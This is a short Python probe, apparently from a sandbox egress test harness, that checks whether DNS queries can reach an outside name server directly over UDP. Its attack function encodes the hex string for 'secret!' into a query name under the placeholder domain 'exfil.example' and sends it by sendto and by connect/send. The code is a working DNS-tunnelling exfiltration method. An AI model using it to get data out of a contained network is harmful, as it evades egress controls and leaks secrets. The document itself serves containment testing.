"""Data in names, straight to a name server outside, over UDP (sendto, and connect then send)."""

import os
import socket
import struct

import say


def question(name, kind=1):
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split("."))
    return struct.pack("!HHHHHH", 0x5649, 0x0100, 1, 0, 0, 0) + labels + struct.pack("!BHH", 0, kind, 1)


def attack(given):
    to, detail = (given["outside"], int(given.get("dns", 53))), []
    for connected in (False, True):
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            sock.settimeout(2)
            try:
                if connected:
                    sock.connect(to)
                    sock.send(question("73656372657421.exfil.example"))
                else:
                    sock.sendto(question("73656372657421.exfil.example"), to)
                answer = sock.recv(512)
                if answer[:2] == b"VI":
                    return True, f"{len(answer)} bytes answered"
            except OSError as error:
                detail.append(str(error))
    return False, "; ".join(detail)


def twin(given):
    """The resolver answers for the allowed host; in a cell without a network, for localhost."""
    host = given["allowed_host"] if "http_proxy" in os.environ else "localhost"
    found = socket.getaddrinfo(host, 443)
    return bool(found), f"{host}: {found[0][4][0]}"


if __name__ == "__main__":
    say.main("dns_udp", attack, twin)
